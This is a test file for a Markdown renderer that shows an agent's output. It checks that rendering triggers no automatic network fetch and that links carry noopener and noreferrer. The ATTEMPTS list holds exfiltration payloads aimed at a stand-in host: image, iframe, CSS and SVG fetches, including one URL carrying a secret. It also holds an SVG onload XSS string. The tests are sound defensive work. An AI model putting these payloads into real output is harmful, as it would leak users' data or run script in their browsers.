import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';

/** Elements and attributes by which a browser fetches something without anybody tapping. */
const FETCHING = 'img, picture, source, video, audio, iframe, embed, object, link, script, style, svg, [style], [srcset], [poster], [background]';

const ATTEMPTS = [
  '![收据](https://trap.example/leak?room=secret)',
  '[![x](https://trap.example/a.png)](https://trap.example/b)',
  '![x][ref]\n\n[ref]: https://trap.example/a.png',
  '<img src="https://trap.example/a.png">',
  '<iframe src="https://trap.example/"></iframe>',
  '<link rel="prefetch" href="https://trap.example/">',
  '<video poster="https://trap.example/a.png"></video>',
  '<style>@import url(https://trap.example/a.css)</style>',
  '<div style="background:url(https://trap.example/a.png)">x</div>',
  '<svg><image href="https://trap.example/a.png"/></svg>',
  '| a |\n|---|\n| ![x](https://trap.example/a.png) |',
  '> ![x](https://trap.example/a.png)',
  '- ![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  'https://trap.example/preview-me',
  '```html\n<img src="https://trap.example/a.png">\n```',
];

describe('what an agent says', () => {
  it.each(ATTEMPTS)('[T7] fetches nothing by itself: %s', (body) => {
    const { container } = render(<Markdown body={body} />);
    expect([...container.querySelectorAll(FETCHING)].filter((element) => element.closest('button') === null)).toEqual([]);
    expect(container.textContent).not.toBe('');
  });

  it('[T7] a link is there to be tapped, and gives the page it leads to no power over this one', () => {
    const { container } = render(<Markdown body="[这里](https://example.org/a)" />);
    const link = container.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.org/a');
    expect(link?.getAttribute('rel')).toContain('noopener');
    expect(link?.getAttribute('rel')).toContain('noreferrer');
  });
});
